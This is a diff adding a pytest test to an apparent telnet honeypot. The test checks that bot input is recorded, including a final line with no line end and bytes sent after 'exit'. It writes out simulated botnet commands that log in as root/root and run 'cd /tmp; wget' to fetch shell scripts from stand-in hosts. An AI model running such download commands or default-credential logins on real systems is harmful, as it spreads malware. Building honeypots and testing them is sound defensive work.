@@ -320,3 +320,28 @@ def test_long_line_is_cut_and_recorded(make_hanipo):
         h.events("command", "telnet")), what="command events")
     assert cmds[0]["fields"].get("cut") is True
     assert len(cmds[0]["fields"]["command"]) == 4096
+
+
+def test_last_line_without_end_and_bytes_after_exit_are_recorded(make_hanipo):
+    h = telnet_hanipo(make_hanipo, extra="accept = any\n")
+    b = bot_login(h.port, b"root", b"root")
+    b.until(lambda t: t.rstrip().endswith(b"#"))
+    b.mark = len(b.text)
+    b.s.sendall(b"cd /tmp; wget http://192.0.2.9/last.sh")      # no line end, then EOF
+    b.s.shutdown(socket.SHUT_WR)
+    b.until(lambda t: b"Connection refused" in t)                # answered on the half-close
+    b.close()
+    dl = wait_until(lambda: h.events("download_url", "telnet"), what="download_url")
+    assert dl[0]["fields"]["url"] == "http://192.0.2.9/last.sh"
+
+    b = bot_login(h.port, b"root", b"root")
+    b.until(lambda t: t.rstrip().endswith(b"#"))
+    b.s.sendall(b"exit\r\nwget http://192.0.2.10/after-exit.sh\r\n")
+    b.s.settimeout(scaled(5))
+    while b.s.recv(4096):
+        pass
+    b.close()
+    p = wait_until(lambda: [e for e in h.events("payload", "telnet")
+                            if e["fields"]["incomplete"] == "unanswered"], what="payload")
+    assert p[0]["fields"]["phase"] == "closed"
+    assert len(h.events("download_url", "telnet")) == 1          # after exit: recorded, not run
